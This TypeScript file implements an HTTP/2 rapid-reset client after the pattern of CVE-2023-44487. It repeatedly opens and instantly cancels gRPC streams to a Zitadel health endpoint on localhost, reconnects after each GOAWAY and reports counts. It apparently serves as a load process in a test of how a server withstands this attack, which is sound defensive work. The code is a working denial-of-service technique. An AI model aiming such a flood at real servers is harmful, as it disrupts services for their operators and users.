import * as http2 from "node:http2";
import * as net from "node:net";

/*
 * An HTTP/2 rapid-reset client (CVE-2023-44487's pattern), run as its own process so that its work
 * does not share an event loop with the callers whose latency is measured: it opens streams and
 * resets each at once, as fast as it can, and reconnects whenever a connection ends (after a
 * GOAWAY, or when refused). Usage: rapid-reset-client.ts <port> <local address> <seconds>.
 * Prints one JSON line: connections made, streams reset, GOAWAY codes seen.
 */

const [port, localAddress, seconds] = [Number(process.argv[2]), process.argv[3]!, Number(process.argv[4])];
const until = Date.now() + seconds * 1000;
const stats = { connections: 0, resets: 0, goaways: {} as Record<string, number> };

function attack(): void {
  if (Date.now() >= until) return finish();
  stats.connections++;
  const session = http2.connect(`http://127.0.0.1:${port}`, { createConnection: () => net.connect({ port, host: "127.0.0.1", localAddress }) });
  session.on("error", () => {});
  session.on("goaway", (code) => (stats.goaways[code] = (stats.goaways[code] ?? 0) + 1));
  session.once("close", () => setImmediate(attack));
  session.once("connect", () => {
    const burst = () => {
      if (session.closed || session.destroyed) return;
      if (Date.now() >= until) return session.destroy();
      for (let i = 0; i < 100; i++) {
        const stream = session.request({ ":path": "/zitadel.management.v1.ManagementService/Healthz", ":method": "POST", "content-type": "application/grpc" });
        stream.on("error", () => {});
        stream.close(http2.constants.NGHTTP2_CANCEL);
        stats.resets++;
      }
      setImmediate(burst);
    };
    burst();
  });
}

function finish(): void {
  process.stdout.write(`${JSON.stringify(stats)}\n`);
  process.exit(0);
}

attack();
